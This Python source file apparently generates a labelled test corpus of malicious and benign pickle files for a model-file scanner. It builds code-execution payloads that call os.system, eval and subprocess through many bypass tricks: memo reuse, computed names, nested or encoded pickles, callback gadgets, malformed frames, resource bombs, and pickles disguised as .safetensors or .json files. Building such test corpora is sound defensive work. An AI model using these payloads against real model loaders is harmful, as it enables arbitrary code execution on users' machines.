"""Hostile and honest pickles of every protocol and bypass class."""

import collections
import datetime
import decimal
import fractions
import functools
import logging
import marshal
import operator
import pathlib
import pickle
import re
import struct
import types
import uuid

from .gadgets import LIBRARIES, STDLIB
from .opcodes import MARKER, Raw, call, called, exploit, framed, name, text, value, whole
from .sample import bad, good, unfinished


def gadgets():
    seen = collections.Counter()
    for index, (module, qualname, arguments, cls) in enumerate(STDLIB + LIBRARIES):
        protocol = (4, 4, 5, 4)[index % 4] if "." in qualname else (0, 1, 2, 3, 4, 5)[index % 6]
        if any(isinstance(a, Raw) for a in arguments):
            protocol = 4
        if any(isinstance(a, bytes) for a in arguments):
            protocol = max(protocol, 3)
        code = call(module, qualname, *arguments, protocol=protocol)
        if index % 5 == 1:  # Hidden between honest state.
            code = (
                b"("
                + text("weights", protocol)
                + value([1.0, 2.0], protocol)
                + text("hook", protocol)
                + code
                + b"d"
            )
        data = framed(code) if protocol == 4 and index % 3 == 0 else whole(code, protocol)
        stem = f"gadget_{module}.{qualname}".replace("/", "_").replace(" ", "_")
        seen[stem] += 1
        bad(f"pickle/{stem}_{seen[stem]}.pkl", data, "pickle", cls, f"protocol {protocol}")


def tricks():
    b = bad
    system = name("os", "system", 2)
    arg = b"X\x04\x00\x00\x00echo"
    # B5: memo.
    b(
        "pickle/memo_memoize_put.pkl",
        b"\x80\x04"
        + text("x")
        + b"\x94"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x940h\x01h\x02\x93"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B5",
        "MEMOIZE then BINGET",
    )
    b(
        "pickle/memo_overwrite.pkl",
        b"\x80\x04"
        + text("json")
        + b"q\x000"
        + text("os")
        + b"q\x000"
        + text("loads")
        + b"q\x010"
        + text("system")
        + b"q\x010h\x00h\x01\x93"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B5",
        "a slot written twice",
    )
    b(
        "pickle/memo_long.pkl",
        b"\x80\x04"
        + text("os")
        + b"r\xff\xff\x00\x000"
        + text("system")
        + b"r\xfe\xff\x00\x000j\xff\xff\x00\x00j\xfe\xff\x00\x00\x93"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B5",
        "LONG_BINPUT",
    )
    b("pickle/memo_text_index.pkl", b"cos\nsystem\np07\n0g7\n(S'echo'\ntR.", "pickle", "B5", "PUT 07, GET 7")
    b(
        "pickle/memo_missing.pkl",
        b"\x80\x02h\x09" + system + b"\x85R." + exploit(2),
        "pickle",
        "B5",
        "GET of a slot never written, then a second stream",
    )
    b(
        "pickle/memo_dup.pkl",
        b"\x80\x02" + system + b"20" + value((MARKER,)) + b"R.",
        "pickle",
        "B5",
        "DUP and POP",
    )
    b(
        "pickle/memo_gap.pkl",
        b"\x80\x04"
        + text("a")
        + b"q\x050"
        + text("os")
        + b"\x94"
        + b"0"
        + text("system")
        + b"0h\x01"
        + text("system")
        + b"\x93"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B5",
        "MEMOIZE counts entries, not the greatest index",
    )
    # B6: dotted.
    b("pickle/dotted_parent.pkl", exploit(4, "json", "decoder.scanner.re.enum.sys.modules"), "pickle", "B6")
    b("pickle/dotted_numpy.pkl", whole(call("numpy", "f2py.os.system", MARKER)), "pickle", "B6")
    b("pickle/dotted_torch.pkl", whole(call("torch", "serialization.os.system", MARKER)), "pickle", "B6")
    b(
        "pickle/dotted_dunder.pkl",
        whole(
            call(
                "collections",
                "OrderedDict.__init__.__globals__",
            )
        ),
        "pickle",
        "B6",
    )
    b(
        "pickle/dotted_p2.pkl",
        exploit(2, "os.path", "os.system"),
        "pickle",
        "B6",
        "dots are not followed by protocol 2, a later reader may",
    )
    b("pickle/dotted_sklearn.pkl", whole(call("sklearn", "utils.os.system", MARKER)), "pickle", "B6")
    b("pickle/dotted_logging.pkl", whole(call("logging", "os.popen", MARKER)), "pickle", "B6")
    b("pickle/dotted_class_globals.pkl", whole(call("datetime", "sys.modules.get", "os")), "pickle", "B6")
    # B7: BUILD.
    b(
        "pickle/build_module_state.pkl",
        b"\x80\x04" + name("os", "environ") + value({"PATH": "/tmp"}) + b"b.",
        "pickle",
        "B7",
        "BUILD on a module attribute",
    )
    b(
        "pickle/build_setattr_class.pkl",
        b"\x80\x04"
        + name("collections", "OrderedDict")
        + b"(N"
        + value({"__reduce__": Raw(name("os", "system"))})
        + b"tb.",
        "pickle",
        "B7",
        "slot state on a class",
    )
    b(
        "pickle/build_torch_flag.pkl",
        b"\x80\x04"
        + name("torch.serialization", "load")
        + b"(N"
        + value({"__defaults__": (None, None, False)})
        + b"tb.",
        "pickle",
        "B7",
    )
    b(
        "pickle/build_numpy_dict.pkl",
        b"\x80\x04"
        + name("numpy.lib.format", "read_array")
        + b"(N"
        + value({"__kwdefaults__": {"allow_pickle": True}})
        + b"tb.",
        "pickle",
        "B7",
    )
    b(
        "pickle/build_function_code.pkl",
        b"\x80\x04" + name("json", "loads") + b"(N" + value({"__code__": Raw(name("os", "system"))}) + b"tb.",
        "pickle",
        "B7",
    )
    b(
        "pickle/build_sys_modules.pkl",
        b"\x80\x04" + name("sys", "modules") + text("json") + name("os", "system") + b"s.",
        "pickle",
        "B7",
        "SETITEM on sys.modules",
    )
    b(
        "pickle/append_sys_path.pkl",
        b"\x80\x04" + name("sys", "path") + text("/tmp") + b"a.",
        "pickle",
        "B7",
        "APPEND on sys.path",
    )
    b(
        "pickle/append_meta_path.pkl",
        b"\x80\x04" + name("sys", "meta_path") + b"(" + text("x") + b"e.",
        "pickle",
        "B7",
        "APPENDS on sys.meta_path",
    )
    b(
        "pickle/builtins_dict.pkl",
        b"\x80\x04" + name("builtins", "__dict__") + text("print") + name("os", "system") + b"s.",
        "pickle",
        "B7",
    )
    # B8: computed names.
    join = called(call("builtins", "getattr", "", "join"), ["sys", "tem"])
    b(
        "pickle/computed_join.pkl",
        whole(
            called(call("builtins", "getattr", Raw(call("builtins", "__import__", "os")), Raw(join)), MARKER)
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/computed_str_join_stack.pkl",
        whole(
            text("os")
            + called(name("builtins", "str.join"), "", ["sys", "tem"])
            + b"\x93"
            + value((MARKER,))
            + b"R"
        ),
        "pickle",
        "B8",
        "STACK_GLOBAL with a computed name",
    )
    b(
        "pickle/computed_codecs.pkl",
        whole(text("os") + call("_codecs", "decode", "flfgrz", "rot13") + b"\x93" + value((MARKER,)) + b"R"),
        "pickle",
        "B8",
    )
    b(
        "pickle/computed_replace.pkl",
        whole(
            text("os")
            + called(name("builtins", "str.replace"), "syXstem", "X", "")
            + b"\x93"
            + value((MARKER,))
            + b"R"
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/computed_format.pkl",
        whole(
            text("os")
            + called(name("builtins", "str.format"), "{}{}", "sys", "tem")
            + b"\x93"
            + value((MARKER,))
            + b"R"
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/computed_bytes_decode.pkl",
        whole(
            text("os")
            + called(name("builtins", "bytes.decode"), b"system")
            + b"\x93"
            + value((MARKER,))
            + b"R"
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/computed_chr.pkl",
        whole(
            text("os")
            + called(
                name("builtins", "str.join"),
                "",
                Raw(
                    called(
                        name("builtins", "map"), Raw(name("builtins", "chr")), [115, 121, 115, 116, 101, 109]
                    )
                ),
            )
            + b"\x93"
            + value((MARKER,))
            + b"R"
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/getattr_chain.pkl",
        whole(
            called(
                call(
                    "builtins",
                    "getattr",
                    Raw(call("builtins", "getattr", Raw(name("builtins", "dict")), "__init__")),
                    "__objclass__",
                )
            )
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/getattr_globals.pkl",
        whole(call("builtins", "getattr", Raw(name("json", "loads")), "__globals__")),
        "pickle",
        "B8",
    )
    b(
        "pickle/getattr_subclasses.pkl",
        whole(called(call("builtins", "getattr", Raw(name("builtins", "object")), "__subclasses__"))),
        "pickle",
        "B8",
    )
    b(
        "pickle/attrgetter_chain.pkl",
        whole(
            called(call("operator", "attrgetter", "__init__.__globals__"), Raw(name("json", "JSONDecoder")))
        ),
        "pickle",
        "B8",
    )
    b(
        "pickle/methodcaller_applied.pkl",
        whole(
            called(
                call("operator", "methodcaller", "system", MARKER),
                Raw(call("importlib", "import_module", "os")),
            )
        ),
        "pickle",
        "B3",
    )
    b(
        "pickle/locate_methodcaller.pkl",
        whole(called(call("operator", "methodcaller", "system", MARKER), Raw(call("pydoc", "locate", "os")))),
        "pickle",
        "B3",
        "GHSA-84r2-jw7c-4r5q",
    )
    b(
        "pickle/itemgetter_modules.pkl",
        whole(called(call("operator", "itemgetter", "os"), Raw(name("sys", "modules")))),
        "pickle",
        "B3",
    )
    b(
        "pickle/dict_get_builtins.pkl",
        whole(called(name("builtins", "dict.get"), Raw(name("builtins", "__dict__")), "eval")),
        "pickle",
        "B8",
    )
    # B9: broken.
    for label, tail in (
        ("cut", b""),
        ("garbage", b"\xff\xfe"),
        ("underflow", b"0000R"),
        ("bad_opcode", b"\x00\x01\x02."),
        ("long_string", b"X\xff\xff\xff\x7fab"),
        ("negative", b"T\xff\xff\xff\xff"),
        ("bad_int", b"Ix\n."),
        ("bad_utf8", b"X\x02\x00\x00\x00\xff\xfe."),
    ):
        b(
            f"pickle/broken_{label}.pkl",
            b"\x80\x02" + call("os", "system", MARKER, protocol=2) + tail,
            "pickle",
            "B9",
        )
    b("pickle/broken_first_then_second.pkl", b"\x80\x02}q\x00\xff." + exploit(2), "pickle", "B9")
    b(
        "pickle/broken_exception_oriented.pkl",
        b"\x80\x02"
        + call("os", "system", MARKER, protocol=2)
        + call("builtins", "int", "x", protocol=2)
        + b".",
        "pickle",
        "B9",
    )
    # B10: calls that vanish.
    b(
        "pickle/pop_reduce.pkl",
        b"\x80\x02" + call("os", "system", MARKER, protocol=2) + b"0}.",
        "pickle",
        "B10",
    )
    b(
        "pickle/pop_mark.pkl",
        b"\x80\x02(" + call("os", "system", MARKER, protocol=2) + b"1}.",
        "pickle",
        "B10",
    )
    b("pickle/inst.pkl", b"(S'echo'\nios\nsystem\n.", "pickle", "B10")
    b("pickle/inst_pop.pkl", b"(S'echo'\nios\nsystem\n0N.", "pickle", "B10")
    b("pickle/obj.pkl", b"(cos\nsystem\nS'echo'\no.", "pickle", "B10")
    b("pickle/obj_pop.pkl", b"\x80\x02(" + system + arg + b"o0}.", "pickle", "B10")
    b(
        "pickle/newobj.pkl",
        b"\x80\x02" + name("subprocess", "Popen", 2) + value((["echo"],)) + b"\x81.",
        "pickle",
        "B10",
        "NEWOBJ",
    )
    b(
        "pickle/newobj_ex.pkl",
        b"\x80\x04" + name("logging", "FileHandler") + value(("/tmp/m",)) + b"}\x92.",
        "pickle",
        "B10",
        "NEWOBJ_EX",
    )
    b(
        "pickle/newobj_build.pkl",
        b"\x80\x04" + name("subprocess", "Popen") + b")\x81" + value({"args": ["echo"]}) + b"b.",
        "pickle",
        "B7",
    )
    b(
        "pickle/dict_value.pkl",
        b"\x80\x02}" + text("a", 2) + call("os", "system", MARKER, protocol=2) + b"s.",
        "pickle",
        "B10",
    )
    b(
        "pickle/set_item.pkl",
        b"\x80\x04\x8f(" + call("os", "system", MARKER) + b"\x90.",
        "pickle",
        "B10",
        "ADDITEMS",
    )
    b("pickle/frozenset_item.pkl", b"\x80\x04(" + call("os", "system", MARKER) + b"\x91.", "pickle", "B10")
    b(
        "pickle/persid_exploit.pkl",
        b"\x80\x02" + call("os", "system", MARKER, protocol=2) + b"Q.",
        "pickle",
        "B10",
        "BINPERSID of a call",
    )
    b(
        "pickle/ext.pkl",
        b"\x80\x02c_codecs\nencode\n0"
        + call("copyreg", "add_extension", "os", "system", 1, protocol=2)
        + b"0\x82\x01"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B10",
        "registers an extension code, then EXT1",
    )
    b(
        "pickle/ext_registry.pkl",
        b"\x80\x04"
        + name("copyreg", "_inverted_registry")
        + value(7)
        + value(("os", "system"))
        + b"s0\x82\x07"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B10",
        "writes the table itself",
    )
    b(
        "pickle/reduce_in_tuple.pkl",
        b"\x80\x02" + call("os", "system", MARKER, protocol=2) + b"\x85\x85\x85.",
        "pickle",
        "B10",
    )
    # B11
    b(
        "pickle/shadow_build.pkl",
        b"\x80\x02" + call("os", "system", MARKER, protocol=2) + b"}b.",
        "pickle",
        "B11",
        "REDUCE then BUILD",
    )
    b(
        "pickle/shadow_twice.pkl",
        b"\x80\x02"
        + call("collections", "OrderedDict", protocol=2)
        + b"0"
        + call("os", "system", MARKER, protocol=2)
        + b"}b.",
        "pickle",
        "B11",
    )
    b(
        "pickle/shadow_same_name.pkl",
        b"\x80\x04"
        + text("os")
        + b"\x94"
        + text("system")
        + b"\x94"
        + b"00"
        + name("math", "sqrt")
        + b"0h\x00h\x01\x93"
        + value((MARKER,))
        + b"R.",
        "pickle",
        "B11",
    )
    # B12: frames.
    inner = call("os", "system", MARKER) + b"."
    b(
        "pickle/frame_short.pkl",
        b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00" + inner,
        "pickle",
        "B12",
        "an opcode crosses the frame's end",
    )
    b(
        "pickle/frame_long.pkl",
        b"\x80\x04\x95\xff\xff\xff\x00\x00\x00\x00\x00" + inner,
        "pickle",
        "B12",
        "the frame is longer than the file",
    )
    b(
        "pickle/frame_nested.pkl",
        b"\x80\x04\x95" + struct.pack("<Q", len(inner) + 9) + b"\x95" + struct.pack("<Q", len(inner)) + inner,
        "pickle",
        "B12",
    )
    b(
        "pickle/frame_protocol2.pkl",
        b"\x80\x02\x95" + struct.pack("<Q", len(inner)) + inner,
        "pickle",
        "B12",
        "FRAME in protocol 2",
    )
    b("pickle/frame_zero.pkl", b"\x80\x04\x95" + bytes(8) + inner, "pickle", "B12")
    b("pickle/proto_twice.pkl", b"\x80\x04\x80\x02" + inner, "pickle", "B12")
    b("pickle/proto_late.pkl", b"cos\nsystem\n\x80\x03" + value((MARKER,)) + b"R.", "pickle", "B12")
    # B17
    b(
        "pickle/torch_magic_call.pt",
        b"\x80\x02"
        + call("os", "system", MARKER, protocol=2)
        + b"."
        + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02].",
        "torch-legacy",
        "B17",
    )
    b(
        "pickle/torch_magic_int_call.pt",
        b"\x80\x02"
        + call("builtins", "int", Raw(call("os", "system", MARKER, protocol=2)), protocol=2)
        + b".\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02].",
        "torch-legacy",
        "B17",
    )
    # B18: code objects as cloudpickle and dill write them.
    code = marshal.dumps(compile("print('marker')", "m", "exec"))
    b(
        "pickle/code_marshal_eval.pkl",
        whole(call("builtins", "eval", Raw(call("marshal", "loads", code)))),
        "pickle",
        "B18",
    )
    b(
        "pickle/code_cloudpickle.pkl",
        whole(
            called(
                call(
                    "cloudpickle.cloudpickle",
                    "_make_function",
                    Raw(
                        called(
                            call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
                            0,
                            0,
                            0,
                            0,
                            2,
                            67,
                            b"d\x00S\x00",
                            (None,),
                            (),
                            (),
                            "m",
                            "f",
                            1,
                            b"",
                            (),
                            (),
                        )
                    ),
                    {},
                    None,
                    None,
                    None,
                )
            )
        ),
        "pickle",
        "B18",
    )
    b(
        "pickle/code_dill.pkl",
        whole(
            call(
                "dill._dill",
                "_create_function",
                Raw(
                    call(
                        "dill._dill",
                        "_create_code",
                        0,
                        0,
                        0,
                        0,
                        1,
                        67,
                        b"d\x00S\x00",
                        (None,),
                        (),
                        (),
                        "m",
                        "f",
                        1,
                        b"",
                    )
                ),
                {},
                "f",
                None,
                None,
            )
        ),
        "pickle",
        "B18",
    )
    b(
        "pickle/code_types_lambda.pkl",
        whole(call("types", "LambdaType", Raw(call("types", "CodeType", 0, 0, 0)), {})),
        "pickle",
        "B18",
    )
    b(
        "pickle/code_cloudpickle_fast.pkl",
        whole(
            name("cloudpickle.cloudpickle", "_function_setstate")
            + name("cloudpickle.cloudpickle", "_make_cell")
            + b"0)R"
        ),
        "pickle",
        "B18",
    )
    # B21: nested.
    nested = exploit(2)
    b("pickle/nested_loads.pkl", whole(call("pickle", "loads", nested)), "pickle", "B21")
    b(
        "pickle/nested_io.pkl",
        whole(call("pickle", "load", Raw(call("io", "BytesIO", nested)))),
        "pickle",
        "B21",
    )
    b(
        "pickle/nested_torch_bytes.pkl",
        whole(
            call(
                "torch.storage",
                "_load_from_bytes",
                b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03.\x80\x02}." + nested,
            )
        ),
        "pickle",
        "B21",
    )
    b(
        "pickle/nested_base64.pkl",
        whole(call("pickle", "loads", Raw(call("base64", "b64decode", "gAJ9Lg==")))),
        "pickle",
        "B21",
    )
    b(
        "pickle/nested_zlib.pkl",
        whole(call("pickle", "loads", Raw(call("zlib", "decompress", b"x")))),
        "pickle",
        "B21",
    )
    b(
        "pickle/nested_decode_exec.pkl",
        whole(call("builtins", "exec", Raw(call("codecs", "decode", "cevag(1)", "rot13")))),
        "pickle",
        "B21",
    )
    # B22: callbacks.
    system4 = Raw(name("os", "system"))
    b("pickle/callback_defaultdict.pkl", whole(call("collections", "defaultdict", system4)), "pickle", "B22")
    b(
        "pickle/callback_partial.pkl",
        whole(called(call("functools", "partial", system4, MARKER))),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_map.pkl",
        whole(call("builtins", "list", Raw(call("builtins", "map", system4, [MARKER])))),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_filter.pkl",
        whole(call("builtins", "set", Raw(call("builtins", "filter", system4, [MARKER])))),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_reduce.pkl",
        whole(call("functools", "reduce", system4, [MARKER, MARKER])),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_starmap.pkl",
        whole(call("collections", "deque", Raw(call("itertools", "starmap", system4, [(MARKER,)])))),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_iter.pkl",
        whole(call("builtins", "list", Raw(call("builtins", "iter", system4, 1)))),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_weakref.pkl",
        whole(call("weakref", "finalize", Raw(name("collections", "OrderedDict")), system4, MARKER)),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_sorted.pkl",
        whole(name("builtins", "sorted") + value(([MARKER],)) + value({"key": system4}) + b"\x92"),
        "pickle",
        "B22",
    )
    b("pickle/callback_atexit.pkl", whole(call("atexit", "register", system4, MARKER)), "pickle", "B22")
    b("pickle/callback_timer.pkl", whole(call("threading", "Timer", 1, system4, [MARKER])), "pickle", "B22")
    b(
        "pickle/callback_thread.pkl",
        whole(called(call("threading", "Thread.start", Raw(call("threading", "Thread", None, system4))))),
        "pickle",
        "B22",
    )
    b("pickle/callback_signal.pkl", whole(call("signal", "signal", 10, system4)), "pickle", "B22")
    b("pickle/callback_property.pkl", whole(call("builtins", "property", system4)), "pickle", "B22")
    b(
        "pickle/callback_type.pkl",
        whole(call("builtins", "type", "X", (), {"__del__": system4})),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_lrscheduler.pkl",
        whole(call("torch.optim.lr_scheduler", "LambdaLR", None, system4)),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_vectorize.pkl",
        whole(called(call("numpy", "vectorize", system4), MARKER)),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_functiontransformer.pkl",
        whole(
            name("sklearn.preprocessing._function_transformer", "FunctionTransformer")
            + b")\x81"
            + value({"func": system4, "validate": False})
            + b"b"
        ),
        "pickle",
        "B22",
        "runs when the model transforms",
    )
    b(
        "pickle/callback_module_hook.pkl",
        whole(
            name("torch.nn.modules.linear", "Linear")
            + b")\x81"
            + value({"_forward_hooks": {0: system4}, "training": False})
            + b"b"
        ),
        "pickle",
        "B22",
    )
    b(
        "pickle/callback_property_dunder.pkl",
        whole(name("collections", "OrderedDict") + b")R" + value({"__class__": system4}) + b"b"),
        "pickle",
        "B22",
    )
    # B25: bombs.
    b(
        "pickle/bomb_memo_index.pkl",
        b"\x80\x02]r\xff\xff\xff\x7f.",
        "pickle",
        "B25",
        "a memo index of 2 to the 31: the C unpickler makes a table of that size",
    )
    b(
        "pickle/bomb_lists.pkl",
        b"\x80\x02]"
        + b"".join(b"q" + bytes([i]) + b"](" + (b"h" + bytes([i])) * 20 + b"e" for i in range(40))
        + b".",
        "pickle",
        "B25",
        "doubling lists",
    )
    b(
        "pickle/bomb_hash_tuples.pkl",
        b"\x80\x02})"
        + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
        + b"K\x01s.",
        "pickle",
        "B25",
        "nested tuples as a key: hashing takes two to the 60 steps",
    )
    b(
        "pickle/bomb_range.pkl",
        whole(
            call(
                "builtins",
                "list",
                Raw(call("builtins", "range", 0, Raw(b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f"))),
            )
        ),
        "pickle",
        "B25",
    )
    b(
        "pickle/bomb_bytes.pkl",
        whole(call("builtins", "bytearray", Raw(b"\x8a\x06\xff\xff\xff\xff\xff\x0f"))),
        "pickle",
        "B25",
    )
    b(
        "pickle/bomb_pow.pkl",
        whole(call("operator", "pow", 10, Raw(b"\x8a\x05\xff\xff\xff\xff\x00"))),
        "pickle",
        "B25",
    )
    b(
        "pickle/bomb_mul.pkl",
        whole(call("operator", "mul", "aaaaaaaa", Raw(b"\x8a\x06\xff\xff\xff\xff\xff\x00"))),
        "pickle",
        "B25",
    )
    unfinished(
        "pickle/cut_honest.pkl",
        pickle.dumps(list(range(1000)), 4)[:700],
        "pickle",
        "B9",
        "an honest stream cut short",
    )


def state(module, qualname, given):
    """An object made without its constructor, then given a state."""
    return whole(name(module, qualname) + b")\x81" + value(given) + b"b")


def latin1(data):
    """Bytes as protocol 2 writes them."""
    return Raw(call("_codecs", "encode", data.decode("latin1"), "latin1"))


def evaluated():
    """Texts and bytes that a library's own class runs when it is given its state."""
    template = "print('marker')\ndef _parse_args(self): pass\n"
    distribution = ("scipy.stats._continuous_distns", "norm_gen")
    bad("pickle/scipy_template.pkl", state(*distribution, {"_parse_arg_template": template}), "pickle", "B7")
    formula = "y ~ x + __import__('os').system('echo marker')"
    model = {"restore_design_info": True, "formula": formula}
    bad("pickle/statsmodels_formula.pkl", state("statsmodels.base.data", "PandasData", model), "pickle", "B7")
    wrapper = ("gymnasium.vector.utils.misc", "CloudpickleWrapper")
    bad("pickle/wrapper_bytes.pkl", state(*wrapper, b"N0" + exploit(0)), "pickle", "B21")
    nested = call("torch.storage", "_load_from_bytes", latin1(exploit(2)))
    bad("pickle/bytes_as_text.pkl", whole(nested), "pickle", "B21")
    computed = call("torch.storage", "_load_from_bytes", Raw(call("builtins", "bytes", [128, 2, 78, 46])))
    bad("pickle/bytes_computed.pkl", whole(computed), "pickle", "B8")
    honest = "\ndef _parse_args(self, a,  loc=0, scale=1):\n    return (a, ), loc, scale\n"
    good("pickle/ok_scipy_template.pkl", state(*distribution, {"_parse_arg_template": honest}), "pickle")
    model["formula"] = "y ~ np.log(x) + C(group, Treatment('a'))"
    good("pickle/ok_formula.pkl", state("statsmodels.base.data", "PandasData", model), "pickle")
    nested = call("torch.storage", "_load_from_bytes", latin1(whole(value({"a": 1}, 2), 2)))
    good("pickle/ok_bytes_as_text.pkl", whole(nested), "pickle")


def constructors():
    """Classes of known libraries whose constructors reach out."""
    for module, qualname in (
        ("torchvision.datasets", "ImageFolder"),
        ("PIL.ImageFont", "FreeTypeFont"),
        ("sklearn.datasets._openml", "Request"),
        ("typing", "ForwardRef"),
        ("nltk.corpus.reader.api", "CorpusReader"),
        ("gensim.models.word2vec", "LineSentence"),
    ):
        bad(f"pickle/made_{module}.{qualname}.pkl", whole(call(module, qualname, "x")), "pickle", "B19")
    model = Raw(name("sentence_transformers", "SentenceTransformer"))
    base = call("copyreg", "_reconstructor", model, model, "marker/model")
    bad("pickle/base_constructor.pkl", whole(base), "pickle", "B19")
    wanted = call("functools", "partial", model, "marker/model")
    bad("pickle/partial_constructor.pkl", whole(wanted), "pickle", "B22")
    count = Raw(call("itertools", "count"))
    bad("pickle/endless_list.pkl", whole(call("builtins", "list", count)), "pickle", "B25")
    bad("pickle/fraction_power.pkl", whole(call("fractions", "Fraction", "1e999999999")), "pickle", "B25")


def spellings():
    """Names and numbers as other readers take them."""
    harm = b"cos\nsystem\n(S'echo marker'\ntR."
    for label, before in {
        "int": b"I1\0x\n0", "long": b"L1\0x\n0", "float": b"F1.5\0x\n0", "memo": b"Np1\0x\n0g1\0y\n0",
        "minus_zero": b"Np-0\n0g-0\n0",
    }.items():  # fmt: skip
        bad(f"pickle/number_{label}.pkl", before + harm, "pickle", "structure", "the C unpickler ends it at a zero")
    bad("pickle/windows_lines.pkl", harm.replace(b"\n", b"\r\n"), "pickle", "structure")
    for module, qualname in (
        ("my.models", "os.system"),
        ("my.models", "np.load"),
        ("java.lang", "Runtime.getRuntime"),
        ("__pypy__", "internal_repr"),
    ):
        bad(f"pickle/name_{module}.{qualname}.pkl", whole(call(module, qualname, "x")), "pickle", "B6")


def disguises():
    bad("pickle/text_prefix.pkl", b"# comment\n" * 3 + exploit(0), "pickle", "B14", "text before the stream")
    bad("pickle/named_like_safetensors.safetensors", exploit(2), "pickle", "B14")
    bad("pickle/named_like_onnx.onnx", exploit(4), "pickle", "B14")
    bad("pickle/named_bin.bin", exploit(2), "pickle", "B14")
    bad("pickle/named_txt.txt", exploit(0), "pickle", "B14")
    bad("pickle/named_json.json", exploit(3), "pickle", "B14")
    bad("pickle/named_h5.h5", exploit(2), "pickle", "B14")
    bad("pickle/no_extension", exploit(5), "pickle", "B14")
    bad("pickle/second_stream.pkl", pickle.dumps({"a": 1}, 2) + exploit(2), "pickle", "B9", "stacked streams")
    bad("pickle/third_stream.pkl", pickle.dumps([1], 4) + pickle.dumps("x", 0) + exploit(0), "pickle", "B9")
    bad(
        "pickle/after_padding.pkl",
        pickle.dumps([1], 4) + bytes(4096) + exploit(2),
        "pickle",
        "B9",
        "a stream behind zeros",
    )


def honest():
    values = {
        "defaultdict": collections.defaultdict(list, a=[1]),
        "defaultdict_int": collections.defaultdict(int),
        "counter": collections.Counter("aab"),
        "partial": functools.partial(int, base=2),
        "regex": re.compile("eval\\(|os\\.system"),
        "date": datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc),
        "decimal": decimal.Decimal("1.5"),
        "fraction": fractions.Fraction(1, 3),
        "uuid": uuid.UUID(int=5),
        "path": pathlib.PurePosixPath("a/b"),
        "namespace": types.SimpleNamespace(lr=0.1),
        "latin1": b"\xff\xfe\x00",
        "sets": {1, frozenset([2])},
        "complex": 1j,
        "range": range(5),
        "slice": slice(1, 2),
        "deque": collections.deque([1], 2),
        "ordered": collections.OrderedDict(a=1),
        "text_os_system": [
            "os.system('echo')",
            "__import__('os')",
            "eval(input())",
            "import subprocess; subprocess.run",
        ],
        "keys": {"exec": 1, "eval": 2, "os": {"system": True}, "__reduce__": None},
        "documentation": "Never call pickle.loads on data that you do not trust: cos\nsystem\n(S'echo'\ntR. would run.",
        "itemgetter": operator.itemgetter(0),
        "big_int": 1 << 200,
        "nested": [[[[]]]] * 3,
        "bytearray": bytearray(b"os\nsystem\n"),
        "exceptions": [ValueError("x"), KeyError("y")],
        "types": [int, str, dict],
        "many": {i: str(i) for i in range(3000)},
        "shared": [[1, 2]] * 50,
        "ellipsis": ...,
        "timedelta": datetime.timedelta(1),
        "embedded_pickle": pickle.dumps({"a": 1}),
        "bytes_pickle_text": b"cposix\nsystem\n",
        "names": ["sub", "process", "sys", "tem"],
        "attrgetter": operator.attrgetter("layer.weight", "shape"),
        "methodcaller": operator.methodcaller("lower"),
        "logger": logging.getLogger("my.models"),
    }
    for index, (label, item) in enumerate(values.items()):
        for protocol in {index % 6, (index + 3) % 6}:
            good(f"pickle/ok_{label}_p{protocol}.pkl", pickle.dumps(item, protocol), "pickle")
    good(
        "pickle/ok_stacked.pkl",
        pickle.dumps(1) + pickle.dumps([2]) + pickle.dumps("three", 0),
        "pickle",
        "three honest streams",
    )
    good(
        "pickle/ok_numpy_like.pkl",
        whole(
            call("numpy._core.multiarray", "_reconstruct", Raw(name("numpy", "ndarray")), (0,), b"b")
            + value((1, (2,), Raw(call("numpy", "dtype", "f4", False, True)), False, bytes(8)))
            + b"b"
        ),
        "pickle",
    )
    good(
        "pickle/ok_numpy_latin1.pkl",
        whole(
            call(
                "numpy.core.multiarray",
                "scalar",
                Raw(call("numpy", "dtype", "f8", 0, 1, protocol=2)),
                Raw(call("_codecs", "encode", "\x00" * 8, "latin1", protocol=2)),
                protocol=2,
            ),
            2,
        ),
        "pickle",
        "as protocol 2 writes bytes",
    )
    good(
        "pickle/ok_torch_state_like.pkl",
        whole(
            call("collections", "OrderedDict", protocol=2)
            + b"("
            + text("weight", 2)
            + call(
                "torch._utils",
                "_rebuild_tensor_v2",
                Raw(value(("storage", Raw(name("torch", "FloatStorage", 2)), "0", "cpu", 4), 2) + b"Q"),
                0,
                (2, 2),
                (2, 1),
                False,
                Raw(call("collections", "OrderedDict", protocol=2)),
                protocol=2,
            )
            + b"u",
            2,
        ),
        "pickle",
    )
    good(
        "pickle/ok_codecs_alias.pkl",
        whole(call("_codecs", "encode", "text", "utf-8", protocol=2), 2),
        "pickle",
    )


def all_samples():
    evaluated()
    constructors()
    spellings()
    gadgets()
    tricks()
    disguises()
    honest()
